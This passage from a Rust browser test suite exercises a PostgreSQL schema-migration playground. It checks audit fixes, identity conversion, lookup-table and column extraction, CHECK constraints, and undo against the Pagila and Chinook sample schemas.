        rewrites.iter().any(|r| r.contains("SELECT customer_id FROM customer WHERE email_address = $1")),
        "{rewrites:#?}"
    );
    session.screenshot("14-consumers-rename-breaks").await;

    page.click("tab-plan").await;
    let breaks = texts("stage-breaks").await;
    assert_eq!(breaks.len(), 1, "one stage breaks them: {breaks:?}");
    assert!(breaks[0].contains("consumer 1 › GetCustomer") && breaks[0].contains("Mailing"), "{breaks:?}");
    // The application's code for the rename, in Rails' terms.
    let select = session.client.find(fantoccini::Locator::Css("[data-testid=framework]")).await.expect("menu");
    select.select_by_value("rails").await.expect("rails");
    let snippet = page.wait_for_text("snippet", "alias_attribute").await;
    assert!(
        snippet.contains("class Customer < ApplicationRecord")
            && snippet.contains("alias_attribute :email, :email_address"),
        "{snippet}"
    );
    session.screenshot("14b-plan-stage-breaks").await;

    // A pg_stat_statements export opened as a second consumer: its statements are read and checked.
    page.click("tab-consumers").await;
    page.click("add-consumer").await;
    let csv = std::env::temp_dir().join(format!("bellows-pgss-{}.csv", std::process::id()));
    std::fs::write(
        &csv,
        "queryid,query,calls\n7,\"SELECT email FROM customer WHERE customer_id = $1\",120\n8,SELECT 1,5\n",
    )
    .expect("csv");
    let inputs =
        session.client.find_all(fantoccini::Locator::Css("[data-testid=consumer-file]")).await.expect("inputs");
    inputs[1].send_keys(&csv.to_string_lossy()).await.expect("chosen");
    page.settle().await;
    let summaries = texts("consumer-summary").await;
    assert_eq!(summaries.get(1).map(String::as_str), Some("2 statements: 1 break"), "{summaries:?}");
    let _ = std::fs::remove_file(&csv);
    page.click("undo").await;
    page.click("undo").await;

    // The link carries the consumer; a fresh browser shows the same.
    let link = page.copy_link().await;
    assert!(link.contains("#d=3."), "{link}");
    // One undo takes the rename back (Enter and the field's change event make one step).
    page.click("undo").await;
    page.click("tab-consumers").await;
    assert_eq!(page.wait_for_text("consumer-summary", "all run").await, "20 statements: all run at every stage");
    session.close().await;

    let fragment = link.split_once('#').map(|(_, f)| f.to_string()).unwrap_or_default();
    let other = Session::open(&setup).await;
    other.client.goto(&format!("{}#{fragment}", other.site.url)).await.expect("link opens");
    let page = Playground { client: &other.client };
    page.wait_until_ready().await;
    page.click("tab-consumers").await;
    assert_eq!(page.wait_for_text("consumer-summary", "break").await, "20 statements: 5 break");
    other.close().await;
}

/// Counts the audit's findings of one rule, on the Audit tab, once the page has settled.
async fn findings_of(page: &Playground<'_>, code: &str) -> usize {
    page.settle().await;
    let found = page
        .client
        .execute(
            &format!("return document.querySelectorAll('[data-testid=\"finding\"][data-code=\"{code}\"]').length;"),
            vec![],
        )
        .await
        .expect("counted");
    found.as_u64().unwrap_or(0) as usize
}

/// Waits (up to 10s) until the audit lists `n` findings of `code`.
async fn wait_for_findings(page: &Playground<'_>, code: &str, n: usize) -> usize {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let now = findings_of(page, code).await;
        if now == n || std::time::Instant::now() > deadline {
            return now;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn fixing_audit_findings_plans_the_fix_and_undo_takes_it_back() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-pagila/pagila-schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let unindexed = audit_of(&schema, "unindexed-foreign-key");
    assert!(unindexed.len() >= 2, "pagila has unindexed foreign keys to fix: {}", unindexed.len());
    page.click("tab-audit").await;
    assert_eq!(findings_of(&page, "unindexed-foreign-key").await, unindexed.len());

    // One finding's Fix: the finding goes, and the plan builds the index without blocking writes.
    let first = page
        .client
        .find(fantoccini::Locator::Css(
            "[data-testid=\"finding\"][data-code=\"unindexed-foreign-key\"] [data-testid=\"fix\"]",
        ))
        .await
        .expect("the finding offers a fix");
    let label = first.text().await.expect("label");
    assert!(label.starts_with("Fix: index "), "{label}");
    first.click().await.expect("fixed");
    assert_eq!(wait_for_findings(&page, "unindexed-foreign-key", unindexed.len() - 1).await, unindexed.len() - 1);
    session.screenshot("15-audit-fix-one").await;
    let plan = page.plan_text().await;
    assert!(plan.contains("CREATE INDEX CONCURRENTLY"), "{plan}");
    assert_eq!(plan.matches("CREATE INDEX CONCURRENTLY").count(), 1, "one index: {plan}");

    // Fix all of the rule: every foreign key indexed, as one more undo step.
    page.click("tab-audit").await;
    page.client
        .execute("document.querySelector('[data-testid=\"fix-all\"]').scrollIntoView();", vec![])
        .await
        .expect("scrolled");
    session.screenshot("15a-audit-fix-all-bar").await;
    page.element_click("[data-testid=\"fix-all\"] [data-code=\"unindexed-foreign-key\"]").await;
    assert_eq!(wait_for_findings(&page, "unindexed-foreign-key", 0).await, 0);
    let plan = page.plan_text().await;
    assert_eq!(plan.matches("CREATE INDEX CONCURRENTLY").count(), unindexed.len(), "{plan}");
    session.screenshot("15b-audit-fix-all-plan").await;

    // Undo takes "Fix all" back, then the single fix.
    page.click("undo").await;
    let plan = page.plan_text().await;
    assert_eq!(plan.matches("CREATE INDEX CONCURRENTLY").count(), 1, "{plan}");
    page.click("undo").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    page.click("tab-audit").await;
    assert_eq!(wait_for_findings(&page, "unindexed-foreign-key", unindexed.len()).await, unindexed.len());
    session.close().await;
}

#[tokio::test]
async fn a_serial_fixed_in_the_audit_plans_an_identity_at_expand() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-pagila/pagila-schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let serials = audit_of(&schema, "serial-not-identity");
    let fixable = serials.iter().filter(|f| f.fix.is_some()).count();
    assert!(fixable >= 1, "pagila's serials: {}", serials.len());
    page.click("tab-audit").await;
    page.element_click("[data-testid=\"finding\"][data-code=\"serial-not-identity\"] [data-testid=\"fix\"]").await;
    assert_eq!(wait_for_findings(&page, "serial-not-identity", serials.len() - 1).await, serials.len() - 1);
    let plan = page.plan_text().await;
    assert!(plan.contains("serial to GENERATED BY DEFAULT AS IDENTITY"), "{plan}");
    assert!(plan.contains("ADD GENERATED BY DEFAULT AS IDENTITY"), "{plan}");
    // The identity starts past the highest key; Pagila's sequences are its own objects (no
    // OWNED BY), so the plan keeps them and says so.
    assert!(plan.contains("SELECT setval(pg_get_serial_sequence("), "{plan}");
    assert!(plan.contains("stays (it is not the column's alone)"), "{plan}");
    session.screenshot("15c-audit-fix-serial-plan").await;
    page.click("undo").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");

    // The same change from the inspector: the column's identity control shows the serial and
    // turns it into an identity.
    page.find_table("actor").await;
    page.click("tab-table").await;
    let control = page.element("tr.row-actions[data-column=\"actor_id\"] [data-testid=\"identity\"]").await;
    assert_eq!(control.prop("value").await.expect("value").as_deref(), Some("serial"));
    control.select_by_value("by-default").await.expect("by default");
    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "actor.actor_id: serial to GENERATED BY DEFAULT AS IDENTITY").await;
    assert!(plan.contains("actor.actor_id: serial to GENERATED BY DEFAULT AS IDENTITY"), "{plan}");
    // The inspector after the analysis: the identity chosen, the serial's default gone.
    page.click("tab-table").await;
    let control = page.element("tr.row-actions[data-column=\"actor_id\"] [data-testid=\"identity\"]").await;
    assert_eq!(control.prop("value").await.expect("value").as_deref(), Some("by-default"));
    session.screenshot("15d-inspector-identity").await;
    page.click("undo").await;
    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}

#[tokio::test]
async fn free_text_becomes_a_lookup_table_from_the_audit_and_from_the_inspector() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-chinook/Chinook_PostgreSql.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let tables = schema.tables.len();
    let free_text = audit_of(&schema, "enum-like-text-without-check");
    assert!(free_text.len() >= 2 && free_text.iter().all(|f| f.fix.is_some()), "{free_text:?}");

    // The audit's fix: a lookup table of customer.state's values, filled by the plan.
    page.click("tab-audit").await;
    page.element_click("[data-testid=\"finding\"][data-code=\"enum-like-text-without-check\"] [data-testid=\"fix\"]")
        .await;
    assert_eq!(
        wait_for_findings(&page, "enum-like-text-without-check", free_text.len() - 1).await,
        free_text.len() - 1
    );
    page.wait_for_table_count(&format!("{} tables", tables + 1)).await;
    let plan = page.plan_text().await;
    assert!(plan.contains("create table customer_state"), "{plan}");
    assert!(plan.contains("add each customer(state) value v1 writes to customer_state"), "{plan}");
    assert!(
        plan.contains("INSERT INTO customer_state (state) SELECT DISTINCT c.state FROM customer c WHERE c.state IS NOT NULL ON CONFLICT DO NOTHING"),
        "{plan}"
    );
    assert!(plan.contains("VALIDATE CONSTRAINT customer_state_fkey"), "{plan}");
    assert!(plan.contains("v2 adds a value to customer_state before customer(state) uses it"), "{plan}");
    session.screenshot("17-audit-fix-lookup-plan").await;

    // The same gesture in the inspector, on invoice.billing_state.
    page.find_table("invoice").await;
    page.click("tab-table").await;
    page.element_click(
        "[data-testid=\"column-editor\"] tr.row-actions[data-column=\"billing_state\"] [data-testid=\"allow-only\"]",
    )
    .await;
    let how = session
        .client
        .find(fantoccini::Locator::Css("tr.row-actions[data-column=\"billing_state\"] [data-testid=\"allowed-as\"]"))
        .await
        .expect("the choice");
    how.select_by_value("lookup").await.expect("a lookup table");
    page.element_click("tr.row-actions[data-column=\"billing_state\"] [data-testid=\"allow-only-apply\"]").await;
    page.wait_for_table_count(&format!("{} tables", tables + 2)).await;
    let editor = page.wait_for_text("column-editor", "invoice_billing_state(billing_state)").await;
    assert!(editor.contains("invoice_billing_state(billing_state)"), "the column now references it: {editor}");
    session.screenshot("17a-inspector-lookup-extracted").await;
    let plan = page.plan_text().await;
    assert!(plan.contains("fill invoice_billing_state with the distinct invoice(billing_state) values"), "{plan}");

    // Two undo steps, one per gesture, take it all back.
    page.click("undo").await;
    page.wait_for_table_count(&format!("{} tables", tables + 1)).await;
    page.click("undo").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}

#[tokio::test]
async fn optional_columns_that_describe_one_thing_move_to_their_own_table_from_the_audit() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-chinook/Chinook_PostgreSql.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let tables = schema.tables.len();
    let groups = audit_of(&schema, "null-together-columns");
    assert!(groups.len() == 1 && groups[0].fix.is_some(), "Chinook's invoice billing_* columns: {groups:?}");

    // The finding reads as the group it is, and its Fix is the extract-columns refactoring.
    page.click("tab-audit").await;
    let finding = page
        .element("[data-testid=\"finding\"][data-code=\"null-together-columns\"]")
        .await
        .text()
        .await
        .expect("text");
    assert!(
        finding.contains("billing_address, billing_city, billing_state, billing_country, billing_postal_code"),
        "{finding}"
    );
    session
        .client
        .execute(
            "document.querySelector('[data-testid=\"finding\"][data-code=\"null-together-columns\"]').scrollIntoView({block: 'center'});",
            vec![],
        )
        .await
        .expect("scrolled");
    session.screenshot("17b-audit-null-together-finding").await;
    page.element_click("[data-testid=\"finding\"][data-code=\"null-together-columns\"] [data-testid=\"fix\"]").await;
    assert_eq!(wait_for_findings(&page, "null-together-columns", 0).await, 0);
    page.wait_for_table_count(&format!("{} tables", tables + 1)).await;
    let moved = "billing_address, billing_city, billing_state, billing_country, billing_postal_code";
    split_is_planned_then_undone(
        &session,
        &page,
        ("invoice", "invoice_billing", moved),
        tables,
        "17c-audit-null-together-plan",
    )
    .await;
    session.close().await;
}

/// The plan of an extraction (`source`'s `moved` columns into the new table `into`) reads as the
/// split recipe: the new table, the triggers, the copy and v2's switch; the new table is on the
/// canvas beside the plan (screenshot `shot`), and one undo takes it all back.
async fn split_is_planned_then_undone(
    session: &Session,
    page: &Playground<'_>,
    (source, into, moved): (&str, &str, &str),
    tables: usize,
    shot: &str,
) {
    let plan = page.plan_text().await;
    assert!(plan.contains(&format!("create table {into}")), "{plan}");
    assert!(plan.contains(&format!("split {moved} from {source} into {into}")), "{plan}");
    assert!(plan.contains(&format!("copy {moved} of existing {source} rows into {into}")), "{plan}");
    assert!(plan.contains(&format!("v2 reads and writes {moved} in {into} instead of {source}")), "{plan}");
    page.find_table(into).await;
    page.click("tab-plan").await;
    session.screenshot(shot).await;
    page.click("undo").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    page.wait_for_table_count(&format!("{tables} tables")).await;
}

#[tokio::test]
async fn columns_are_extracted_into_a_new_table_in_one_gesture_and_undone_in_one() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-chinook/Chinook_PostgreSql.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let tables = schema.tables.len();
    page.find_table("customer").await;
    page.click("tab-table").await;
    // A key column cannot move (it keys both tables), nor one another table references.
    let section = page.wait_for_text("extract-columns", "Extract columns").await;
    assert!(!section.contains("customer_id") && !section.contains("support_rep_id"), "{section}");

    // The address, picked; a name that is taken is refused, says why, and keeps the picks.
    for column in ["address", "city", "postal_code"] {
        page.element_click(&format!("[data-testid=\"extract-pick\"][data-column=\"{column}\"]")).await;
    }
    let name = page.element("[data-testid=\"extract-name\"]").await;
    name.send_keys("invoice").await.expect("typed");
    let error = page.wait_for_text("extract-error", "exists").await;
    assert!(error.contains("a table named invoice exists"), "{error}");
    let go = page.element("[data-testid=\"extract-columns-go\"]").await;
    assert!(go.attr("disabled").await.expect("attr").is_some(), "refused: the button is off");
    name.send_keys("\u{E009}a\u{E000}customer_address").await.expect("typed");
    let label = page.wait_for_text("extract-columns-go", "Extract 3 columns").await;
    assert!(label.contains("Extract 3 columns"), "{label}");
    session.screenshot("18-extract-columns-picked").await;

    // One gesture: the new table, keyed by the customer's key, and the columns gone from customer.
    page.element_click("[data-testid=\"extract-columns-go\"]").await;
    page.wait_for_table_count(&format!("{} tables", tables + 1)).await;
    let plan = page.plan_text().await;
    assert!(plan.contains("ON CONFLICT (customer_id) DO UPDATE"), "v1's trigger and the copy meet on the key: {plan}");
    split_is_planned_then_undone(
        &session,
        &page,
        ("customer", "customer_address", "address, city, postal_code"),
        tables,
        "18a-extract-columns-plan",
    )
    .await;
    session.close().await;
}

/// Types `text` over what the inspector's CHECK field holds, then Enter.
async fn type_check(page: &Playground<'_>, text: &str) {
    let input = page.element("[data-testid=\"new-check\"]").await;
    input.send_keys(&format!("\u{E009}a\u{E000}{text}\u{E007}")).await.expect("typed");
}

#[tokio::test]
async fn a_check_is_added_and_dropped_in_the_inspector_and_a_mistake_keeps_the_text() {
    let Some(setup) = Setup::from_env() else { return };
    // Pagila as of 2018: its payment partitions are inheritance children with a CHECK each.
    let Some(sql) = corpus("pair-pagila/pagila-schema_2018-02-a.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let child = schema.find_table("payment_p2017_01").expect("a payment partition");
    let existing = child.checks.first().and_then(|c| c.name.clone()).expect("the partition's named CHECK");

    // A condition cut short: the reason says where, nothing is planned, the text stays to fix.
    page.find_table("film").await;
    type_check(&page, "rental_rate >=").await;
    let error = page.wait_for_text("check-error", "line 1, column 15").await;
    assert!(error.contains("Expected: an expression, found: EOF (line 1, column 15)"), "{error}");
    let kept = page.element("[data-testid=\"new-check\"]").await.prop("value").await.expect("value");
    assert_eq!(kept.as_deref(), Some("rental_rate >="));
    session.screenshot("16-check-refused").await;
    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "a refused CHECK plans nothing: {plan}");
    assert!(
        page.element("[data-testid=\"undo\"]").await.attr("disabled").await.expect("attr").is_some(),
        "nothing to undo"
    );

    // Finished, it is listed under its PostgreSQL-style name and planned NOT VALID, then VALIDATE.
    page.click("tab-table").await;
    type_check(&page, "rental_rate >= 0").await;
    let checks = page.wait_for_text("checks", "film_rental_rate_check").await;
    assert!(checks.contains("rental_rate >= 0"), "{checks}");
    let cleared = page.element("[data-testid=\"new-check\"]").await.prop("value").await.expect("value");
    assert_eq!(cleared.as_deref(), Some(""), "the field empties once the CHECK is in");
    page.client
        .execute("document.querySelector('[data-testid=\"checks\"]').scrollIntoView();", vec![])
        .await
        .expect("scrolled");
    session.screenshot("16a-check-added").await;
    let plan = page.plan_text().await;
    assert!(plan.contains("ADD CONSTRAINT film_rental_rate_check CHECK (rental_rate >= 0) NOT VALID"), "{plan}");
    assert!(plan.contains("VALIDATE CONSTRAINT film_rental_rate_check"), "{plan}");

    // The partition's own CHECK, dropped with its button.
    page.find_table("payment_p2017_01").await;
    page.click("tab-table").await;
    let checks = page.wait_for_text("checks", &existing).await;
    assert!(checks.contains(&existing), "{checks}");
    page.element_click("[data-testid=\"check\"] [data-testid=\"drop-check\"]").await;
    let plan = page.plan_text().await;
    assert!(plan.contains(&format!("DROP CONSTRAINT IF EXISTS {existing};")), "{plan}");
    session.screenshot("16b-check-dropped-plan").await;

    // Undo takes both back.
    page.click("undo").await;
    page.click("undo").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}
